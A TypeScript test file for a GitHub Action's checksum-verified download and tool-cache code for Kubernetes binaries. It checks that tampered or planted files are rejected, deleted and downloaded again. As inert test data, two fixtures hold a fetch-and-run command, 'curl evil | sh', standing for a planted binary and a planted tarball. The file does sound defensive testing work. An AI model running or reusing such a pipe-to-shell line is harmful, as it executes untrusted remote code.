import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { execFileSync } from 'node:child_process'
import { mkdir, mkdtemp, readFile, readdir, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, it } from 'node:test'
import { cachedBinary, cachedTarball, ChecksumError, downloadVerified, parseChecksum, pinnedFor, unresolvable, verifyLine } from '../src/host/download.js'
import { pinnedDigest } from '../src/config/pins.js'
import type { SourcesInputs } from '../src/config/inputs.js'
import { artifacts } from '../src/phases/artifacts.js'
import { containerdArtifact } from '../src/runtimes/containerd/driver.js'
import { nonLoopbackAddress, serve, type TestServer } from './helpers/http.js'

const sha = (b: string | Buffer): string => createHash('sha256').update(b).digest('hex')

/** A gzipped tarball holding one file, `bridge`, with `content`, made by tar. */
function tarballOf(content: string): Buffer {
  const dir = execFileSync('mktemp', ['-d']).toString().trim()
  execFileSync('sh', ['-c', 'printf %s "$1" > "$2/bridge"', 'sh', content, dir])
  return execFileSync('tar', ['-cz', '-C', dir, 'bridge'])
}
const tgz = tarballOf('the bridge plugin')
const evilTgz = tarballOf('curl evil | sh')

describe('verified downloads', () => {
  let server: TestServer
  let temp: string
  before(async () => {
    temp = await mkdtemp(join(tmpdir(), 'ksn-dl-'))
    process.env.RUNNER_TEMP = temp
    const body = 'the kubeadm binary'
    server = await serve({
      '/v1/kubeadm': { body },
      '/v1/kubeadm.sha256': { body: `${sha(body)}\n` },
      '/v1/cni.tgz': { body: 'plugins' },
      '/v1/cni.tgz.sha256': { body: `${sha('plugins')}  cni.tgz\n` },
      '/v1/evil': { body: 'tampered' },
      '/v1/plugins.tgz': { body: tgz },
      '/v1/plugins.tgz.sha256': { body: `${sha(tgz)}  plugins.tgz\n` },
      '/v1/evil.sha256': { body: sha('original') }
    })
  })
  after(() => server.close())

  it('returns the file when it matches a bare digest', async () => {
    const path = await downloadVerified({ name: 'kubeadm', url: `${server.url}/v1/kubeadm`, checksumUrl: `${server.url}/v1/kubeadm.sha256`, input: 'github-url' })
    assert.equal(await readFile(path, 'utf8'), 'the kubeadm binary')
  })

  it('accepts sha256sum lines naming the file', async () => {
    const path = await downloadVerified({ name: 'cni', url: `${server.url}/v1/cni.tgz`, checksumUrl: `${server.url}/v1/cni.tgz.sha256`, input: 'github-url' })
    assert.equal(await readFile(path, 'utf8'), 'plugins')
  })

  it('deletes a file whose checksum does not match, and says so', async () => {
    const before = new Set(await readdir(temp))
    await assert.rejects(
      downloadVerified({ name: 'evil', url: `${server.url}/v1/evil`, checksumUrl: `${server.url}/v1/evil.sha256`, input: 'github-url' }),
      (err: Error) => {
        assert.ok(err instanceof ChecksumError)
        assert.match(err.message, new RegExp(`has SHA-256 ${sha('tampered')}, but .* publishes ${sha('original')}`))
        assert.match(err.message, /nothing was installed/)
        return true
      }
    )
    const left = (await readdir(temp)).filter((f) => !before.has(f))
    assert.deepEqual(left, [], 'the tampered file must not stay behind')
  })

  it('fails clearly when the checksum is missing', async () => {
    await assert.rejects(downloadVerified({ name: 'kubeadm', url: `${server.url}/v1/kubeadm`, checksumUrl: `${server.url}/v1/nothing.sha256`, input: 'github-url' }), /Could not read the published checksum of kubeadm/)
  })

  it('serves a verified binary from the tool cache the second time, fetching only its checksum', async () => {
    process.env.RUNNER_TOOL_CACHE = await mkdtemp(join(tmpdir(), 'ksn-tc-'))
    const artifact = { name: 'kubeadm', url: `${server.url}/v1/kubeadm`, checksumUrl: `${server.url}/v1/kubeadm.sha256`, input: 'github-url' as const }
    const key = { tool: 'kubeadm', version: 'v1.34.2', arch: 'amd64' }
    const first = await cachedBinary(artifact, key)
    const hits = server.hits.length
    const lines: string[] = []
    const second = await cachedBinary(artifact, key, (l) => lines.push(l))
    assert.equal(second, first)
    assert.deepEqual(server.hits.slice(hits), ['/v1/kubeadm.sha256'], 'only the checksum the second time')
    assert.deepEqual(lines, [`kubeadm v1.34.2 from the tool cache, verified against ${server.url}/v1/kubeadm.sha256`])
    assert.equal(await readFile(second, 'utf8'), 'the kubeadm binary')
  })

  it('never installs a binary planted in the tool cache: it is downloaded again, verified, and replaces the plant', async () => {
    process.env.RUNNER_TOOL_CACHE = await mkdtemp(join(tmpdir(), 'ksn-tc-'))
    // where @actions/tool-cache looks: TOOL/VERSION/ARCH, with its .complete marker beside it
    const dir = join(process.env.RUNNER_TOOL_CACHE, 'kubeadm', '1.34.2', 'amd64')
    await mkdir(dir, { recursive: true })
    await writeFile(join(dir, 'kubeadm'), '#!/bin/sh\ncurl evil | sh\n')
    await writeFile(`${dir}.complete`, '')
    const artifact = { name: 'kubeadm', url: `${server.url}/v1/kubeadm`, checksumUrl: `${server.url}/v1/kubeadm.sha256`, input: 'github-url' as const }
    const lines: string[] = []
    const path = await cachedBinary(artifact, { tool: 'kubeadm', version: 'v1.34.2', arch: 'amd64' }, (l) => lines.push(l))
    assert.equal(await readFile(path, 'utf8'), 'the kubeadm binary')
    assert.match(lines[0], new RegExp(`^warning: the tool cache's kubeadm v1\\.34\\.2 \\(.*kubeadm\\) has SHA-256 ${sha('#!/bin/sh\ncurl evil | sh\n')}, but .* says ${sha('the kubeadm binary')}: not used, downloaded again$`))
    assert.equal(await readFile(join(dir, 'kubeadm'), 'utf8'), 'the kubeadm binary', 'the plant is gone')
  })

  it('keeps tarballs in the tool cache as published, and checks a hit before unpacking it: a planted tarball is never unpacked', async () => {
    process.env.RUNNER_TOOL_CACHE = await mkdtemp(join(tmpdir(), 'ksn-tc-'))
    const key = { tool: 'cni-plugins', version: 'v1.8.0', arch: 'amd64' }
    const artifact = { name: 'cni-plugins', url: `${server.url}/v1/plugins.tgz`, checksumUrl: `${server.url}/v1/plugins.tgz.sha256`, input: 'github-url' as const }
    const first = await cachedTarball(artifact, key)
    assert.equal(await readFile(join(first, 'bridge'), 'utf8'), 'the bridge plugin')
    const cached = join(process.env.RUNNER_TOOL_CACHE, 'cni-plugins', '1.8.0', 'amd64', 'plugins.tgz')
    assert.equal(sha(await readFile(cached, 'latin1')), sha(tgz.toString('latin1')), 'the tarball as published')
    // a plant in its place: another tarball, whose bridge is not the published one
    await writeFile(cached, evilTgz)
    const lines: string[] = []
    const second = await cachedTarball(artifact, key, (l) => lines.push(l))
    assert.match(lines[0], /^warning: the tool cache's cni-plugins v1\.8\.0 .* not used, downloaded again$/)
    assert.equal(await readFile(join(second, 'bridge'), 'utf8'), 'the bridge plugin')
  })

  it('never caches a file that failed verification', async () => {
    process.env.RUNNER_TOOL_CACHE = await mkdtemp(join(tmpdir(), 'ksn-tc-'))
    const bad = { name: 'evil', url: `${server.url}/v1/evil`, checksumUrl: `${server.url}/v1/evil.sha256`, input: 'github-url' as const }
    await assert.rejects(cachedBinary(bad, { tool: 'evil', version: '1.0.0', arch: 'amd64' }), ChecksumError)
    assert.deepEqual(await readdir(process.env.RUNNER_TOOL_CACHE), [])
  })

  it('holds a download from a mirror that is not on this machine to the digest pinned for the upstream release', async (t) => {
    // a mirror on another address of this machine: not loopback, so treated as a remote one
    const addr = nonLoopbackAddress()
    if (!addr) return t.skip('no non-loopback IPv4 address here to serve a remote-looking mirror from')
    const body = 'crictl, as a mirror changed it'
    // the mirror changed the file and its checksum file together: only the pin catches it
    const mirror = await serve({ '/crictl.tgz': { body }, '/crictl.tgz.sha256': { body: sha(body) } }, addr)
    try {
      const pinned = sha('crictl, as upstream published it')
      const remote = { name: 'crictl', url: `${mirror.url}/crictl.tgz`, checksumUrl: `${mirror.url}/crictl.tgz.sha256`, pinned, input: 'github-url' as const }
      assert.equal(pinnedFor(remote), pinned)
      assert.equal(verifyLine(remote), `verify SHA-256 against ${remote.checksumUrl} only on a mirror on this machine; from any other, the pinned ${pinned}`)
      await assert.rejects(downloadVerified(remote), (err: Error) => err instanceof ChecksumError && err.message.includes(`has SHA-256 ${sha(body)}`))
      assert.deepEqual(mirror.hits, ['/crictl.tgz'], "the mirror's checksum file is not asked")
      // the same mirror on this machine's loopback (or a file:// one) is the user's own: its checksum file counts
      const local = { ...remote, url: `${server.url}/v1/kubeadm`, checksumUrl: `${server.url}/v1/kubeadm.sha256` }
      assert.equal(pinnedFor(local), undefined)
      assert.equal(await readFile(await downloadVerified(local), 'utf8'), 'the kubeadm binary')
      assert.equal(pinnedFor({ ...remote, url: 'file:///opt/mirror/crictl.tgz' }), undefined)
    } finally {
      await mirror.close()
    }
  })

  it('pins crictl, the CNI plugins and the action\'s containerd for the default github-url', () => {
    const arts = artifacts({ kubernetesReleaseUrl: 'https://dl.k8s.io/release', githubUrl: 'https://github.com' } as SourcesInputs, 'v1.34.2', 'amd64')
    assert.equal(pinnedFor(arts.crictl), pinnedDigest('crictl', 'v1.34.0', 'amd64'))
    assert.equal(pinnedFor(arts['cni-plugins']), pinnedDigest('cni-plugins', 'v1.8.0', 'amd64'))
    assert.equal(pinnedFor(containerdArtifact('https://github.com', 'arm64')), pinnedDigest('containerd', '2.2.1', 'arm64'))
    assert.match(pinnedDigest('crictl', 'v1.34.0', 'amd64') ?? '', /^[0-9a-f]{64}$/)
    // Kubernetes' own binaries: only the release mirror's checksum (README, Trust)
    assert.equal(pinnedFor(arts.kubeadm), undefined)
  })

  it('parses checksum files', () => {
    const d = 'a'.repeat(64)
    assert.equal(parseChecksum(`${d}\n`, 'x'), d)
    assert.equal(parseChecksum(`${'b'.repeat(64)}  other\n${d} *x\n`, 'x'), d)
    assert.throws(() => parseChecksum('<html>', 'x'), /no SHA-256 for x/)
    assert.throws(() => parseChecksum(`${d}  other`, 'x'), /no SHA-256 for x/)
  })

  it('says at once which host did not resolve and which input avoids it, without the retries', async () => {
    // .invalid never resolves (RFC 2606)
    const art = { name: 'kubeadm', url: 'https://dl.example.invalid/release/v1.34.2/bin/linux/amd64/kubeadm', checksumUrl: 'https://dl.example.invalid/release/v1.34.2/bin/linux/amd64/kubeadm.sha256', input: 'kubernetes-release-url' as const }
    await assert.rejects(downloadVerified(art), /Could not download kubeadm from https:\/\/dl\.example\.invalid\/.*: dl\.example\.invalid did not resolve \((ENOTFOUND|EAI_AGAIN)\).*Set kubernetes-release-url to a mirror this runner can reach/)
    assert.equal(await unresolvable('http://127.0.0.1:1/x'), undefined, 'an address needs no lookup')
  })
})
